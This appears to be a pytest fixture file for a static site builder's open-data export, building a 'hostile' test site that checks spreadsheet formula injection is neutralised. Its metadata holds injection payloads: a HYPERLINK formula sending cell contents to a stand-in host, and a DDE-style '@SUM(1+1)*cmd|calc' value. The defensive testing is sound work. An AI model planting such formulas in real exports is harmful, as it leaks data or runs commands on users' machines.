"""The open data as published: of the real library, and of a site whose texts would like to be something else."""

from pathlib import Path

import pytest

from tests.build.command import build, change, made_once, small_site
from tests.build.fixtures import real_site, shared

__all__ = ["real_site", "shared"]

FORMULA = "=HYPERLINK(\"https://annan.exempel.se/?\"&A1;'klicka')"


@pytest.fixture(scope="session")
def data(real_site: Path) -> Path:
    """The folder /data/ of the real library."""
    return real_site / "data"


@pytest.fixture(scope="session")
def hostile(shared: Path) -> Path:
    """A site with texts that look like markup, and like formulas."""
    return made_once(shared, "formulas", _made) / "site"


def _made(folder: Path) -> None:
    content = small_site(folder, "hostile")
    change(content, "programs/lugn/index.md", "name: Lugn\n", f"name: Lugn\naliases: [{FORMULA!r}]\n")
    lugn = content / "programs/lugn/index.md"
    lugn.write_text(lugn.read_text("utf-8").replace(f"{FORMULA!r}", _quoted(FORMULA)), "utf-8")
    change(content, "programs/lugn/index.md", "basis: Står i regionens lista.", "basis: '@SUM(1+1)*cmd|calc'")
    change(content, "programs/lugn/index.md", "control: väntelista", "control: '-1+1'")
    ended = build(content, folder / "site")
    assert ended.code == 0, ended.out


def _quoted(text: str) -> str:
    """A text as YAML writes it when nothing in it may mean anything."""
    return "'{}'".format(text.replace("'", "''"))
